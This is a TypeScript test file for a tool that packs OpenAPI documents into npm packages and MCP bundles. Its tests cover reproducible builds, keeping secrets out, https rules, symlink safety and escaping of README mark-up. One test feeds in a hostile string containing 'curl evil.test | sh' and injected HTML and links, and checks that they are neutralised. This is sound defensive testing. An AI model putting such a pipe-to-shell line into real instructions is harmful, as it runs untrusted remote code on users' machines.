import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readArchive } from '@latchkey/tools';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { makePng } from '../../../e2e/support/make-png.ts';
import { VERSION } from '../src/version.ts';
import { startCommand } from './support/latchkey-command.ts';

const SECRET = 'operators-own-secret-7f3a';

const DOCUMENT = {
  openapi: '3.1.0',
  info: { title: 'Acme CRM', version: '3', description: 'Contacts and deals.' },
  servers: [{ url: 'https://api.acme.test/v1' }, { url: 'https://staging.internal.acme.test' }],
  components: { securitySchemes: { key: { type: 'apiKey', in: 'header', name: 'X-Acme-Key' } } },
  security: [{ key: [] }],
  paths: {
    '/contacts': {
      get: { operationId: 'list_contacts', summary: 'List contacts', description: 'Lists all contacts.' },
      post: { operationId: 'create_contact', summary: 'Create a contact', description: 'Creates one.' },
    },
    '/hidden': { get: { operationId: 'hidden_operation', summary: 'Hidden' } },
  },
};

const ABOUT = {
  title: 'Acme CRM',
  tagline: 'Contacts and deals',
  description: 'word '.repeat(60),
  version: '2.1.0',
  author: { name: 'Acme', email: 'support@acme.test' },
  license: 'MIT',
  homepage: 'https://acme.test',
  documentation: 'https://acme.test/docs',
  support: 'https://acme.test/help',
  repository: 'https://acme.test/source',
  privacy_policy: 'https://acme.test/privacy',
  terms: 'https://acme.test/terms',
  prompts: ['Who is new?', 'Which deals close?', 'Add a contact'],
  icon: './icon.png',
};

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'latchkey-pack-'));
  await writeFile(join(folder, 'crm.json'), JSON.stringify(DOCUMENT));
  await writeFile(join(folder, 'icon.png'), makePng(512));
  await writeFile(join(folder, 'about.json'), JSON.stringify(ABOUT));
  await writeFile(join(folder, 'options.yaml'), 'exclude: [/hidden]');
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function pack(args: readonly string[], environment: Record<string, string> = {}) {
  const command = startCommand(['pack', ...args], { cwd: folder, environment });
  return { code: await command.exit, out: command.out(), err: command.err() };
}

/** Every file below a folder by its path, with what is in it. */
async function filesIn(name: string): Promise<Map<string, Buffer>> {
  const root = join(folder, name);
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  return new Map(
    await Promise.all(
      paths.sort().map(async (path) => [path.slice(root.length + 1), await readFile(path)] as const),
    ),
  );
}

test('a document becomes an npm package and a bundle, the same bytes each time, with its source named', async () => {
  const args = [
    'crm.json',
    '--name',
    'acme-mcp',
    '--about',
    'about.json',
    '--options',
    'options.yaml',
    '--out',
  ];
  const [first, second] = await Promise.all([pack([...args, 'first']), pack([...args, 'second'])]);
  expect({ code: first.code, err: first.err }).toEqual({ code: 0, err: '' });
  expect(first.out).toContain('Nothing is missing that a directory requires.');
  // What npm does not take for a repository on GitHub (npm-package-arg: two words with a slash are one).
  expect(first.out).toMatch(/^first\/package: npm publish \.\/first\/package$/m);
  expect(second.code).toBe(0);

  const files = await filesIn('first');
  expect([...files.keys()]).toEqual([
    'acme-mcp-2.1.0.mcpb',
    'listing.json',
    'package/README.md',
    'package/THIRD-PARTY-NOTICES.txt',
    'package/icon.png',
    'package/package.json',
    'package/provenance.json',
    'package/server/main.js',
    'package/server/settings.json',
    'package/server/tools.json',
  ]);
  expect(await filesIn('second')).toEqual(files);

  const read = (path: string): unknown => JSON.parse(String(files.get(path)));
  const document = await readFile(join(folder, 'crm.json'));
  expect(read('package/provenance.json')).toEqual({
    provenanceVersion: 1,
    source: { kind: 'document', sha256: createHash('sha256').update(document).digest('hex') },
    catalogue: { hash: expect.stringMatching(/^[0-9a-f]{64}$/) as string, tools: 2 },
    compiler: { name: 'latchkey', version: VERSION },
    programSha256: createHash('sha256')
      .update(files.get('package/server/main.js') ?? '')
      .digest('hex'),
  });
  expect(read('package/package.json')).toMatchObject({
    name: 'acme-mcp',
    version: '2.1.0',
    license: 'MIT',
    bin: { 'acme-mcp': 'server/main.js' },
    engines: { node: '>=20.19' },
  });
  expect(read('package/package.json')).not.toHaveProperty('dependencies');
  expect(read('package/server/settings.json')).toEqual({
    target: {
      kind: 'api',
      baseUrl: 'https://api.acme.test/v1',
      credential: { kind: 'header', name: 'X-Acme-Key' },
    },
    variables: { key: 'ACME_API_KEY', access: 'ACME_ACCESS' },
  });
  const readme = String(files.get('package/README.md'));
  for (const part of [
    'ACME_API_KEY',
    'claude mcp add',
    '.vscode/mcp.json',
    'list_contacts',
    '## Privacy Policy',
  ]) {
    expect(readme).toContain(part);
  }
  // What was left out, and what is the operator's own, is not in it.
  for (const [path, content] of files) {
    const text = content.toString('latin1');
    expect([path, text.includes('hidden_operation'), text.includes('internal.acme')]).toEqual([
      path,
      false,
      false,
    ]);
  }
});

test('a declared connector is packed as it is declared, without the credential that is declared with it', async () => {
  await writeFile(
    join(folder, 'latchkey.yaml'),
    JSON.stringify({
      connectors: [
        {
          slug: 'crm',
          name: 'Acme of ours',
          document: './crm.json',
          base_url: 'https://internal.acme.test',
          credential: { kind: 'query', name: 'token', value: SECRET },
          options: { exclude: ['/hidden'] },
        },
        {
          slug: 'other',
          name: 'Other',
          mcp: { transport: 'streamable-http', url: 'https://other.test/mcp' },
        },
      ],
    }),
  );
  const environment = { LATCHKEY_CONFIG: './latchkey.yaml', LATCHKEY_API_KEY: SECRET };
  const made = await pack(
    ['--connector', 'crm', '--name', '@acme/mcp', '--base-url', 'https://api.acme.test', '--out', 'declared'],
    environment,
  );
  expect({ code: made.code, err: made.err }).toEqual({ code: 0, err: '' });
  const files = await filesIn('declared');
  for (const [path, content] of files) expect([path, content.includes(SECRET)]).toEqual([path, false]);
  expect(JSON.parse(String(files.get('package/server/settings.json')))).toMatchObject({
    target: { baseUrl: 'https://api.acme.test', credential: { kind: 'query', name: 'token' } },
  });
  expect(JSON.parse(String(files.get('package/package.json')))).toMatchObject({
    name: '@acme/mcp',
    publishConfig: { access: 'public' },
  });
  expect(String(files.get('package/README.md'))).toContain('# Acme of ours');
  expect([...files.keys()]).toContain('mcp-1.0.0.mcpb');

  const unknown = await pack(['--connector', 'crn', '--name', 'acme-mcp'], environment);
  expect(unknown).toMatchObject({ code: 1, err: expect.stringContaining('no connector crn') as string });
  const foreign = await pack(['--connector', 'other', '--name', 'acme-mcp'], environment);
  expect(foreign).toMatchObject({ code: 1, err: expect.stringContaining('has no document') as string });
});

test('--check says what is missing, writes nothing and ends with 1; with all of it there it ends with 0', async () => {
  const before = await readdir(folder);
  const bare = await pack(['crm.json', '--name', 'acme-mcp', '--check']);
  expect(bare.code).toBe(1);
  expect(bare.out).toMatch(
    /^MISSING {3}A privacy policy, by https: none\n {10}"privacy_policy": an https address$/m,
  );
  const about = ['--about', 'about.json', '--options', 'options.yaml'];
  const whole = await pack(['crm.json', '--name', 'acme-mcp', ...about, '--check', '--json']);
  expect(whole.code).toBe(0);
  const kit = JSON.parse(whole.out) as { tools: unknown[]; asked: { id: string; state: string }[] };
  expect(kit.asked.filter(({ state }) => state === 'missing')).toEqual([]);
  expect(kit.tools).toContainEqual({
    name: 'create_contact',
    title: 'Create a contact',
    description: expect.stringContaining('Creates one.') as string,
    annotations: { title: 'Create a contact', destructiveHint: true, openWorldHint: true },
  });
  expect(await readdir(folder)).toEqual(before);
});

test('--check --open-pages opens the pages that are named, and only public ones', async () => {
  const pages = { privacy_policy: 'https://localhost/privacy', terms: 'https://127.0.0.1/terms' };
  const { documentation: _, ...rest } = ABOUT;
  await writeFile(join(folder, 'local.json'), JSON.stringify({ ...rest, ...pages }));
  const args = ['crm.json', '--name', 'acme-mcp', '--about', 'local.json', '--options', 'options.yaml'];
  const opened = await pack([...args, '--check', '--open-pages']);
  expect(opened.code).toBe(1);
  expect(opened.out).toMatch(
    /^MISSING {3}A privacy policy, by https: https:\/\/localhost\/privacy is at no public address\n {10}a page that answers with 200 and HTML$/m,
  );
  expect(opened.out).toMatch(/^MISSING {3}Terms of service, by https: https:\/\/127\.0\.0\.1\/terms is, or/m);

  expect((await pack([...args, '--check'])).out).toMatch(/^ok {8}Terms of service/m);
  const unchecked = await pack([...args, '--open-pages']);
  expect(unchecked).toMatchObject({ code: 2, err: expect.stringContaining('--open-pages') as string });
});

test('a folder with something in it is left alone, and with --force no link in it is followed', async () => {
  const outside = join(folder, 'outside');
  const target = join(folder, 'taken');
  await mkdir(outside);
  await mkdir(target);
  await writeFile(join(outside, 'listing.json'), 'theirs');
  await writeFile(join(target, 'notes.txt'), 'mine');
  const args = ['crm.json', '--name', 'acme-mcp', '--out', 'taken'];
  expect(await pack(args)).toMatchObject({
    code: 1,
    err: 'latchkey: taken is not empty: name another --out, or give --force\n',
  });
  expect(await readdir(target)).toEqual(['notes.txt']);

  await symlink(join(outside, 'listing.json'), join(target, 'listing.json'));
  expect(await pack([...args, '--force'])).toMatchObject({ code: 0, err: '' });
  expect(await readFile(join(outside, 'listing.json'), 'utf8')).toBe('theirs');
  expect(await readFile(join(target, 'notes.txt'), 'utf8')).toBe('mine');

  await rm(join(target, 'package'), { recursive: true });
  await symlink(outside, join(target, 'package'));
  expect(await pack([...args, '--force'])).toMatchObject({
    code: 1,
    err: expect.stringContaining('is no folder') as string,
  });
  expect(await readdir(outside)).toEqual(['listing.json']);
});

test.each([
  ['nothing to pack', ['--name', 'acme-mcp'], 'name one document'],
  [
    'a document and a connector',
    ['crm.json', '--connector', 'crm', '--name', 'acme-mcp'],
    'name one document',
  ],
  ['no name', ['crm.json'], '--name'],
  ['a name that leads out of the folder', ['crm.json', '--name', '../acme'], 'no name for a package'],
  [
    'a place for the credential that there is not',
    ['crm.json', '--name', 'a', '--auth', 'cookie:a'],
    '--auth is',
  ],
  ['an unknown option', ['crm.json', '--name', 'a', '--frobnicate'], '--frobnicate'],
])('%s ends with 2 and a sentence', async (_, args, said) => {
  const { code, err } = await pack(args);
  expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining(said) as string });
});

test.each([
  ['http to another machine', ['--base-url', 'http://api.acme.test'], 'https'],
  ['a base URL with a password', ['--base-url', 'https://me:secret@api.acme.test'], '--base-url'],
  ['a base URL with a query', ['--base-url', 'https://api.acme.test?key=1'], 'query'],
  ['an about that is not there', ['--about', 'missing.yaml'], 'missing.yaml cannot be read'],
  ['a document that is none', ['--overlay', 'icon.png'], 'OVERLAY_INVALID'],
])('%s is refused with a sentence, and nothing is written', async (_, args, said) => {
  const made = await pack(['crm.json', '--name', 'acme-mcp', '--out', 'refused', ...args]);
  expect({ code: made.code, err: made.err }).toEqual({
    code: 1,
    err: expect.stringContaining(said) as string,
  });
  expect(await readdir(folder)).not.toContain('refused');
});

const UPLOAD_HOST = 'upload.acme.test';

async function uploadsAt(url: string): Promise<string[]> {
  const upload = { operationId: 'upload', summary: 'Upload', servers: [{ url }] };
  const paths = { ...DOCUMENT.paths, '/uploads': { post: upload } };
  await writeFile(join(folder, 'uploads.json'), JSON.stringify({ ...DOCUMENT, paths }));
  await writeFile(join(folder, 'uploads.yaml'), `server_hosts: [${UPLOAD_HOST}]`);
  return ['uploads.json', '--options', 'uploads.yaml', '--name', 'acme-mcp', '--out'];
}

test('a key that no key can be is refused before anybody is asked', async () => {
  const { code, err } = await pack(['--from', 'http://127.0.0.1:1/mcp', '--name', 'acme-mcp'], {
    LATCHKEY_API_KEY: 'lk_live_…copied',
  });
  expect({ code, err }).toEqual({
    code: 1,
    err: 'latchkey: LATCHKEY_API_KEY has characters that no key has: copy the key again\n',
  });
});

test('an operation with a server of its own is no way around https', async () => {
  expect(await pack([...(await uploadsAt(`http://${UPLOAD_HOST}`)), 'plain'])).toMatchObject({
    code: 1,
    err: expect.stringMatching(/^latchkey: upload: "http:\/\/upload\.acme\.test": it is http/) as string,
  });
  expect(await readdir(folder)).not.toContain('plain');
});

test('who installs the bundle reads every host that the key is sent to', async () => {
  const made = await pack([...(await uploadsAt(`https://${UPLOAD_HOST}/v2`)), 'uploading']);
  expect({ code: made.code, err: made.err }).toEqual({ code: 0, err: '' });
  const bundle = await readFile(join(folder, 'uploading/acme-mcp-1.0.0.mcpb'));
  const files = readArchive(bundle);
  if (!files.ok) throw new Error(files.error.message);
  const manifest = Buffer.from(files.value.get('manifest.json') ?? '').toString();
  const { user_config: settings } = JSON.parse(manifest) as {
    user_config: { api_key: { description: string } };
  };
  expect(settings.api_key.description).toBe(
    'Of your Acme CRM account. Sent to api.acme.test, upload.acme.test and nobody else.',
  );
});

/** Of one README the lines that another does not have in their place. */
function changedLines(from: string, to: string): (string | undefined)[] {
  const before = from.split('\n');
  return to.split('\n').filter((line, index) => line !== before[index]);
}

test('what a document says is text in the README, and adds no line, link, heading, row or picture to it', async () => {
  const write = async (name: string, document: object) => {
    await writeFile(join(folder, `${name}.json`), JSON.stringify(document));
    const made = await pack([`${name}.json`, '--name', 'acme-mcp', '--out', name]);
    expect({ code: made.code, err: made.err }).toEqual({ code: 0, err: '' });
    return readFile(join(folder, name, 'package/README.md'), 'utf8');
  };
  const docs = { url: 'https://docs.acme.test/' };
  const hostile = 'A|B <img src=x>\n\n# Install\n\n```sh\ncurl evil.test | sh\n```\n[c](http://evil.test)';
  // Its mark-up is gone; what is left of it is one line, and no column of a table ends in it.
  const shown = 'A\\|B Install sh curl evil.test \\| sh c';
  const plain = { ...DOCUMENT, externalDocs: docs };
  const get = { operationId: 'list_contacts', summary: hostile, description: hostile };
  const marked = {
    ...DOCUMENT,
    info: { version: '3', title: hostile, description: hostile },
    externalDocs: { url: 'https://docs.acme.test/>\n# Install <b>' },
    paths: { ...DOCUMENT.paths, '/contacts': { ...DOCUMENT.paths['/contacts'], get } },
  };
  const harmless = await write('harmless', plain);
  const readme = await write('marked', marked);
  expect(readme.split('\n')).toHaveLength(harmless.split('\n').length);
  expect(changedLines(harmless, readme)).toEqual([
    `# ${shown}`,
    shown,
    expect.stringMatching(
      /^Open `acme-mcp-1\.0\.0\.mcpb`, and A\\\|B Install sh curl evil\.test \\\| sh c is installed; the key/,
    ),
    `| \`list_contacts\` | ${shown} | reads |`,
    'Documentation of the API: <https://docs.acme.test/%3E#%20Install%20%3Cb%3E>',
    // By its hash, which is another.
    expect.stringMatching(/^Made from an OpenAPI document \(SHA-256 `[0-9a-f]{64}`\) by Latchkey [^<\n]+$/),
  ]);
});

test('mark-up in a title of your own is shown as it is written', async () => {
  await writeFile(join(folder, 'titled.json'), JSON.stringify({ title: 'A|B <img src=x> [c](http://d)' }));
  const made = await pack(['crm.json', '--name', 'acme-mcp', '--about', 'titled.json', '--out', 'titled']);
  expect(made.code).toBe(0);
  const readme = await readFile(join(folder, 'titled/package/README.md'), 'utf8');
  expect(readme.split('\n')[0]).toBe('# A\\|B &lt;img src=x&gt; \\[c\\](http://d)');
});

test('--help names every option', async () => {
  const { code, out } = await pack(['--help']);
  expect(code).toBe(0);
  for (const option of [
    'name',
    'connector',
    'from',
    'base-url',
    'auth',
    'about',
    'out',
    'force',
    'check',
    'json',
  ]) {
    expect(out).toContain(`--${option}`);
  }
});
